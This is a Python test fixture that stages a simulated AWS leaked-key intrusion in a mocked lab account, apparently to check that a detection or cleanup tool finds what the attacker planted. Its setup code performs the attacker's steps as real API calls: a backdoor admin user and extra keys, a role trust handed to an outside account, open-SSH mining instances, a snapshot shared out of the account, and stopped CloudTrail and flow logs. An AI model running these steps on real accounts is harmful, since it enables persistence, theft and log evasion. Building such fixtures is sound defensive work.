"""A leaked key, used from outside: what the thief did, and what others did meanwhile.

Every call is made for real against the lab's account, so that its trail records it.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import boto3

from lab.faults import Faults
from tests.conftest import AwsLab

ACCOUNT, OUTSIDE = "123456789012", "444455556666"
HOME, FAR, FARTHER = "us-east-1", "ap-southeast-1", "sa-east-1"


@dataclass
class Leak:
    """What was planted, for tests to look for. Ids by the name that the story gives a thing."""

    lab: AwsLab
    keys: dict[str, dict[str, str]] = field(default_factory=dict)
    ids: dict[str, Any] = field(default_factory=dict)

    def client(self, who: str, service: str, region: str = HOME) -> Any:
        """A client with one of the story's credentials."""
        key = self.keys[who]
        return boto3.client(
            service,
            region_name=region,
            aws_access_key_id=key["AccessKeyId"],
            aws_secret_access_key=key["SecretAccessKey"],
            aws_session_token=key.get("SessionToken"),
        )

    def id(self, who: str) -> str:
        """The id of one of the story's keys."""
        return self.keys[who]["AccessKeyId"]


def stage(lab: AwsLab, faults: Faults) -> Leak:
    """The whole story."""
    leak = Leak(lab)
    _before(leak)
    _reconnaissance(leak, faults)
    _persistence(leak)
    _backdoor(leak)
    _miners(leak)
    _theft(leak)
    _covering_up(leak)
    _others_at_work(leak)
    faults.clear()
    return leak


def _trust(account: str) -> str:
    return json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Principal": {"AWS": f"arn:aws:iam::{account}:root"},
                    "Action": "sts:AssumeRole",
                }
            ],
        }
    )


def _before(leak: Leak) -> None:
    """The account as it was: two users, a role, a trail, a volume."""
    iam = leak.lab.client("iam")
    for name in ("ci", "alice"):
        iam.create_user(UserName=name)
        leak.keys[name] = iam.create_access_key(UserName=name)["AccessKey"]
    iam.create_role(RoleName="deploy", AssumeRolePolicyDocument=_trust(ACCOUNT))
    leak.lab.client("s3").create_bucket(Bucket="trail-bucket")
    leak.lab.client("cloudtrail").create_trail(Name="main", S3BucketName="trail-bucket")
    leak.lab.client("cloudtrail").start_logging(Name="main")
    ec2 = leak.lab.client("ec2", HOME)
    leak.ids["volume"] = ec2.create_volume(AvailabilityZone=f"{HOME}a", Size=1)["VolumeId"]
    vpc = ec2.describe_vpcs()["Vpcs"][0]["VpcId"]
    leak.ids["flow log"] = ec2.create_flow_logs(
        ResourceIds=[vpc],
        ResourceType="VPC",
        LogDestinationType="s3",
        LogDestination="arn:aws:s3:::trail-bucket",
        TrafficType="ALL",
    )["FlowLogIds"][0]


def _reconnaissance(leak: Leak, faults: Faults) -> None:
    leak.client("ci", "sts").get_caller_identity()
    leak.client("ci", "iam").list_users()
    for region in (HOME, FAR, FARTHER):
        leak.client("ci", "ec2", region).describe_instances()

    def thief(call: Any) -> bool:
        return bool(call.access_key == leak.id("ci"))

    faults.deny("secretsmanager", "ListSecrets", only=thief)
    faults.deny("iam", "AttachUserPolicy", only=thief)
    for _ in range(3):
        _refused(lambda: leak.client("ci", "secretsmanager").list_secrets())
    _refused(
        lambda: leak.client("ci", "iam").attach_user_policy(
            UserName="ci", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"
        )
    )


def _refused(call: Any) -> None:
    try:
        call()
    except Exception as error:
        if "AccessDenied" not in str(error):
            raise
    else:
        raise AssertionError("the call was to be refused")


def _persistence(leak: Leak) -> None:
    """A second key, an admin user with a password and a key of its own."""
    iam = leak.client("ci", "iam")
    leak.keys["second"] = iam.create_access_key(UserName="ci")["AccessKey"]
    iam = leak.client("second", "iam")
    iam.create_user(UserName="backup-admin")
    iam.put_user_policy(UserName="backup-admin", PolicyName="all", PolicyDocument=_everything())
    iam.create_login_profile(UserName="backup-admin", Password="Example-Passw0rd!")
    leak.keys["admin"] = iam.create_access_key(UserName="backup-admin")["AccessKey"]


def _everything() -> str:
    allow = {"Effect": "Allow", "Action": "*", "Resource": "*"}
    return json.dumps({"Version": "2012-10-17", "Statement": [allow]})


def _backdoor(leak: Leak) -> None:
    """The role trusts another account, which then uses it."""
    iam = leak.client("admin", "iam")
    iam.update_assume_role_policy(RoleName="deploy", PolicyDocument=_trust(OUTSIDE))
    from moto.iam.models import iam_backends

    backend = iam_backends[OUTSIDE]["aws"]
    backend.create_user(HOME, "mallory")
    key = backend.create_access_key("mallory")
    leak.keys["mallory"] = {
        "AccessKeyId": key.access_key_id,
        "SecretAccessKey": key.secret_access_key,
    }
    leak.keys["from outside"] = leak.client("mallory", "sts").assume_role(
        RoleArn=f"arn:aws:iam::{ACCOUNT}:role/deploy", RoleSessionName="mallory"
    )["Credentials"]
    leak.client("from outside", "s3").create_bucket(Bucket="drop-bucket")


def _miners(leak: Leak) -> None:
    """Two far regions, with a key pair, and a group that is open to all."""
    for region in (FAR, FARTHER):
        ec2 = leak.client("admin", "ec2", region)
        leak.ids[f"pair {region}"] = ec2.create_key_pair(KeyName="m")["KeyPairId"]
        group = ec2.create_security_group(GroupName="m", Description="m")["GroupId"]
        ec2.authorize_security_group_ingress(
            GroupId=group, IpProtocol="tcp", FromPort=22, ToPort=22, CidrIp="0.0.0.0/0"
        )
        leak.ids[f"group {region}"] = group
        launched = ec2.run_instances(
            ImageId="ami-12345678",
            InstanceType="p3.8xlarge",
            KeyName="m",
            SecurityGroupIds=[group],
            MinCount=2,
            MaxCount=2,
        )["Instances"]
        leak.ids[f"miners {region}"] = sorted(i["InstanceId"] for i in launched)


def _theft(leak: Leak) -> None:
    """A snapshot of the volume, shared with the other account."""
    ec2 = leak.client("second", "ec2")
    snapshot = ec2.create_snapshot(VolumeId=leak.ids["volume"])["SnapshotId"]
    ec2.modify_snapshot_attribute(
        SnapshotId=snapshot,
        Attribute="createVolumePermission",
        OperationType="add",
        UserIds=[OUTSIDE],
    )
    leak.ids["snapshot"] = snapshot


def _covering_up(leak: Leak) -> None:
    """A federation token, minted before anybody noticed, stops the logs; one miner is ended."""
    token = leak.client("ci", "sts").get_federation_token(Name="support")["Credentials"]
    leak.keys["federated"] = token
    leak.client("federated", "cloudtrail").stop_logging(Name="main")
    leak.client("federated", "ec2").delete_flow_logs(FlowLogIds=[leak.ids["flow log"]])
    gone = leak.ids[f"miners {FAR}"][0]
    leak.client("admin", "ec2", FAR).terminate_instances(InstanceIds=[gone])


def _others_at_work(leak: Leak) -> None:
    """What must not be found: other people's work, some of it on the same things."""
    leak.client("alice", "iam").create_user(UserName="bob")
    leak.client("alice", "ec2", FAR).create_key_pair(KeyName="alice")
    leak.client("alice", "ec2", "eu-west-1").run_instances(
        ImageId="ami-12345678", MinCount=1, MaxCount=1
    )
    own = leak.client("alice", "sts").assume_role(
        RoleArn=f"arn:aws:iam::{ACCOUNT}:role/deploy", RoleSessionName="alice"
    )["Credentials"]
    leak.keys["alice's session"] = own
    leak.client("alice's session", "s3").create_bucket(Bucket="alice-bucket")
    leak.lab.client("iam").tag_role(RoleName="deploy", Tags=[{"Key": "Owner", "Value": "alice"}])


def planted(leak: Leak) -> Mapping[tuple[str, str], str]:
    """Everything that the thief created: (type, id) to the lead by which it must be found."""
    second, admin = f"key {leak.id('second')}", f"key {leak.id('admin')}"
    found = {
        ("AWS::IAM::AccessKey", leak.id("second")): f"key {leak.id('ci')}",
        ("AWS::IAM::User", "backup-admin"): second,
        ("AWS::IAM::LoginProfile", "backup-admin"): second,
        ("AWS::IAM::AccessKey", leak.id("admin")): second,
        ("AWS::EC2::Snapshot", leak.ids["snapshot"]): second,
        ("AWS::S3::Bucket", "drop-bucket"): f"key {leak.id('from outside')}",
    }
    for region in (FAR, FARTHER):
        found["AWS::EC2::KeyPair", leak.ids[f"pair {region}"]] = admin
        found["AWS::EC2::SecurityGroup", leak.ids[f"group {region}"]] = admin
        for miner in leak.ids[f"miners {region}"]:
            found["AWS::EC2::Instance", miner] = admin
    return found
